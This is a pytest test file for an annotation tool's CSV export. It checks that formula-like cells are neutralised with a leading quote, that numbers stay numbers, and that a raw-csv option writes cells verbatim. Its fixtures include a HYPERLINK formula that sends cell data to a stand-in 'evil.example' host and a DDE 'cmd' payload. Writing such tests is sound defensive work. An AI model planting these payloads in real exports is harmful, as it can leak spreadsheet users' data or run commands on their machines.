"""Every CSV the tool writes is safe to open in a spreadsheet: formula-like text cells are
neutralised (OWASP's leading quote), numbers stay numbers, and --raw-csv writes them verbatim."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from tests.core.cli_run import new_project, run

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
QUOTE = "+1+cmd|' /C calc'!A0"
TEXT = f"{QUOTE} said @Ann Lee today. -Done"


@pytest.fixture
def project(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> str:
    db = new_project(capsys, tmp_path, "csv.db")
    at = TEXT.index("@Ann Lee")
    spans = [
        {"id": 1, "start": 0, "end": len(QUOTE), "label": "QUOTE", "annotator": "=alice"},
        {"id": 2, "start": at, "end": at + 8, "label": "ACTOR", "annotator": "=alice"},
        {"id": 3, "start": 0, "end": len(QUOTE), "label": "QUOTE", "annotator": "bob"},
    ]
    line = {
        "text": TEXT,
        "title": TITLE,
        "spans": spans,
        "relations": [{"from": 1, "to": 2, "type": "speaker", "annotator": "=alice"}],
    }
    source = tmp_path / "hostile.jsonl"
    source.write_text(json.dumps(line) + "\n", encoding="utf-8")
    code, _, err = run(capsys, "--db", db, "import", str(source), "--keep-annotators")
    assert code == 0, err
    return db


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_whosaid_csv_neutralises_formulas_from_article_text(
    project: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "who.csv"
    assert run(capsys, "--db", project, "export", "--format", "whosaid", "-o", str(out))[0] == 0
    rows = _rows(out)
    alice = next(r for r in rows if r["annotator"] == "'=alice")
    assert alice["title"] == "'" + TITLE
    assert alice["text"] == "'" + QUOTE
    assert alice["actor"] == "'@Ann Lee"
    assert (alice["start"], alice["end"]) == ("0", str(len(QUOTE)))  # numbers untouched
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_raw_csv_writes_cells_verbatim(
    project: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "raw.csv"
    code, _, _ = run(capsys, "--db", project, "export", "--format", "whosaid", "--raw-csv", "-o", str(out))
    assert code == 0
    alice = next(r for r in _rows(out) if r["annotator"] == "=alice")
    assert (alice["title"], alice["text"], alice["actor"]) == (TITLE, QUOTE, "@Ann Lee")


def test_agreement_csv_neutralises_names_but_keeps_numbers(
    project: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out, raw = tmp_path / "agree.csv", tmp_path / "agree-raw.csv"
    assert run(capsys, "--db", project, "agree", "--csv", str(out))[0] == 0
    rows = _rows(out)
    assert rows and all(r["annotators"].startswith(("'=alice", "bob")) for r in rows)
    assert any(r["annotators"] == "'=alice|bob" for r in rows)
    for row in rows:
        if row["value"]:
            float(row["value"])  # a figure, never "'-0.25"
    assert run(capsys, "--db", project, "agree", "--csv", str(raw), "--raw-csv")[0] == 0
    assert any(r["annotators"] == "=alice|bob" for r in _rows(raw))


def test_negative_figures_stay_numbers(tmp_path: Path) -> None:
    from annotator.agreement.report import AgreementReport, Row

    report = AgreementReport((Row("token_kappa", "pair", "-a|b", "-LABEL", -0.25, n=4),))
    out = tmp_path / "k.csv"
    with out.open("w", encoding="utf-8", newline="") as fh:
        report.write_csv(fh)
    (row,) = _rows(out)
    assert (row["annotators"], row["label"], row["value"], row["n"]) == ("'-a|b", "'-LABEL", "-0.25", "4")


def test_every_csv_writer_goes_through_the_safe_writer() -> None:
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for folder in ("annotator", "ui")
        for path in (root / folder).rglob("*.py")
        if path.name != "csvsafe.py"
        and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter("))
    ]
    assert offenders == []
